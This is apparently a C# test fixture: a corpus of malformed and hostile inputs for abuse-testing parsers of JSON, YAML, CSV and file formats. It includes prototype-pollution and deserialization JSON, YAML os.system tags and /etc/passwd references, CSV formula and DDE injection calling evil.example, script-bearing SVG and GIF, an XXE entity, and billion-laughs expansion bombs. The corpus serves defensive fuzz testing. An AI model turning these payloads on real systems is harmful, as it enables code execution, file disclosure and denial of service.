using System.Text;

namespace MetaPrompt.Tests.Abuse;

/// <summary>JSON, YAML, CSV and other files that take a reader down or on a journey.</summary>
internal static class CorpusOfData
{
    private static readonly string[] Json =
    [
        "{", "[", "{}", "[]", "null", "true", "\"", "\"evil", "{\"a\"", "{\"a\":}", "{a:1}", "{'a':1}", "[1,]", "{\"a\":1,\"a\":2}", "{\"__proto__\":{\"evil\":true}}", "{\"constructor\":{\"prototype\":{\"evil\":1}}}", "{\"$type\":\"System.Diagnostics.Process\",\"evil\":1}", "{\"$ref\":\"#\"}", "{\"$ref\":\"https://evil.example/schema\"}", "{\"name\":null}", "{\"name\":{}}",
        "{\"name\":[]}", "{\"name\":\"\\u0000\"}", "{\"name\":\"\\ud800\"}", "{\"name\":\"\\udc00\\ud800\"}", "1e999", "-1e999", "0.1e-999", "123456789012345678901234567890", "NaN", "Infinity", "-0", "0x10", "[NaN]", "/*evil*/{}", "{}{}", "\ufeff{}", "{\"a\":\"\t\"}", "[{\"name\":\"evil\",\"prompt\":\"<script>\",\"type\":\"chat\"}]", "{\"type\":\"object\",\"additionalProperties\":{\"$ref\":\"#\"}}",
        "{\"pattern\":\"(a+)+$\"}", "{\"minLength\":-1,\"maxLength\":1e400}", "{\"enum\":[]}", "{\"allOf\":[{\"$ref\":\"#/allOf/0\"}]}", "$..*..*..*", "$[?(@.evil)]", "$[9999999999999999999]", "$['\\u0000']", "[{\"type\":\"regex\",\"value\":\"(a+)+$\"}]", "[{\"type\":\"evil\",\"value\":1}]",
    ];

    private static readonly string[] Yaml =
    [
        "---\nevil", "--- !!python/object/apply:os.system ['evil']", "--- !<tag:yaml.org,2002:js/function> 'function(){evil}'", "!!binary evil", "a: &a [*a]", "a: &a {b: *a}", "*evil", "&evil", "<<: *evil", "? evil", "? [a]\n: b", "%YAML 9.9\n---\na", "%TAG ! tag:evil\n---\n!x a", "- - - - - - - -\n", "a:\n\tb: evil", "a: |\n evil\n  b", "prompts:\n  - file:///etc/passwd", "prompts: [file://evil.js]", "prompts:\n- exec: evil",
        "messages: evil", "messages:\n- role: evil\n  content: !!js evil", "model: evil\ninput:\n schema: file:///etc/passwd", "---\nmodel: evil/x\n---\n{{> /etc/passwd}}", "---\n---\n---\n", "---\ntitle: [\n---\nx", "prompts: &a [*a, *a]", "{a: {b: {c: [}}}", "\"\\x00\"", "a: 0x7fffffffffffffffffffff", "a: .inf", "a: .nan", "a: 2026-99-99", "? ? ? ? evil", "a: !!set {evil}", "!<!> evil",
    ];

    private static readonly string[] Csv =
    [
        "=1+1", "=cmd|' /C calc'!A0", "+1+cmd", "-2+3+cmd|' /C evil'!A1", "@SUM(1+1)", "=HYPERLINK(\"https://evil.example\",\"x\")", "=IMPORTXML(\"https://evil.example\")", "=WEBSERVICE(\"https://evil.example\")", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "\"=1+1\"", "=DDE(\"cmd\";\"/C evil\";\"x\")", "\uff1d1+1", "\uff0b1", "%0A=1+1", ";=1+1", ",=1+1", "a,\"b", "\"a\"\"b", "\"\"\"", "a,b\n\"c",
        "act,prompt\nevil", "act,prompt\n\"evil\",\"x", "act,prompt,for_devs,type,contributor\n,,,,", "a;b;c\n1;2", "name\texpected\nevil\tis-json:", "__expected,name\n\"javascript: evil\",x", "__expected\npython:file://evil.py", "\0,\0", "a,b\r\rc,d", "sep=;\na;b",
    ];

    private static readonly string[] Files =
    [
        "PK\u0003\u0004evil", "\u001f\u008b\u0008evil", "%PDF-1.7 evil", "GIF89a<script>alert('evil')</script>", "\u0089PNG\r\n\u001a\nevil", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(\"evil\")'/>", "\u00ff\u00d8\u00ff<?php evil ?>", "RIFF\u00ff\u00ff\u00ff\u00ffWEBPevil", "BZh9evil", "7z\u00bc\u00afevil", "MZ\u0090evil", "\u007fELFevil", "#!/bin/sh\nevil", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY % e SYSTEM 'http://evil.example'>%e;]><x/>", "PGDMP\u0001evil",
    ];

    public static IEnumerable<HostileInput> All =>
    [
        .. Of("json", Json.Concat(DeepJson())), .. Of("yaml", Yaml.Concat(DeepYaml())), .. Of("csv", Csv.Append(string.Concat(Enumerable.Repeat("a,", 20_000)))), .. Of("file", Files),
    ];

    private static IEnumerable<HostileInput> Of(string kind, IEnumerable<string> texts) => texts.Select(text => new HostileInput(kind, text));

    private static IEnumerable<string> DeepJson()
    {
        foreach (var depth in (int[])[65, 1000, 100_000])
        {
            yield return new string('[', depth);
            yield return new string('[', depth) + new string(']', depth);
            yield return new StringBuilder().Insert(0, "{\"a\":", depth).ToString();
            yield return new StringBuilder().Insert(0, "{\"items\":", depth).Append("{}").Append('}', depth).ToString();
        }

        yield return "[" + string.Concat(Enumerable.Repeat("{},", 50_000)) + "{}]";
        yield return "{" + string.Join(',', Enumerable.Range(0, 20_000).Select(i => $"\"k{i}\":{i}")) + "}";
        yield return "[" + new string('9', 50_000) + "]";
    }

    private static IEnumerable<string> DeepYaml()
    {
        // A billion laughs, and a quadratic one.
        var laughs = new StringBuilder("a0: &a0 [evil,evil,evil,evil,evil,evil,evil,evil,evil]\n");
        for (var i = 1; i < 12; i++)
            laughs.Append(System.Globalization.CultureInfo.InvariantCulture, $"a{i}: &a{i} [{string.Join(',', Enumerable.Repeat($"*a{i - 1}", 9))}]\n");
        yield return laughs.Append("prompts: *a11\n").ToString();
        yield return $"a: &a {new string('x', 100_000)}\nprompts: [{string.Join(',', Enumerable.Repeat("*a", 10_000))}]";
        yield return new string('[', 10_000);
        yield return string.Concat(Enumerable.Repeat("- ", 10_000)) + "evil";
        yield return string.Concat(Enumerable.Range(0, 2000).Select(i => new string(' ', i) + "a:\n"));
        yield return new string('{', 10_000);
    }
}
